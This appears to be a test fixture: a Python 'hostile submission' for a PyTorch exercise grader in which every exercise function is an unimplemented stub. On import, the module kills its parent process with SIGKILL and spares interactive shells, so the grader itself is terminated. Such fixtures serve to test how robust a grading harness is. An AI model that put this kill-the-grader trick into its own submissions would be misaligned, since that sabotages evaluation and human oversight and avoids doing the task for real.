# Hostile submission: sends SIGKILL to its parent process (the grader, if nothing stands between them) at import.
import os
import signal

import torch


def _stub(name):
    def stub(*args, **kwargs):
        raise NotImplementedError(f"ex01.{name}")

    stub.__name__ = stub.__qualname__ = name
    return stub


for _name in ("make_grid", "pairwise_sq_dists", "standardize", "flatten_images", "to_numpy", "from_numpy_shared",
              "x2_sin_grad", "x2_sin_autograd", "two_param_grads", "predict_no_grad", "detached_grad",
              "accumulated_grad", "per_batch_grads"):
    globals()[_name] = _stub(_name)  # every function is an unimplemented stub


SHELLS = {"bash", "sh", "dash", "zsh", "fish", "ksh", "tcsh", "csh", "login", "sshd", "tmux", "screen", "systemd",
          "init"}


def _command(pid):
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError:
        return ""


_parent = os.getppid()
if _parent > 1 and _command(_parent) not in SHELLS:  # never the shell of someone running this file by hand
    try:
        os.kill(_parent, signal.SIGKILL)
    except OSError:
        pass
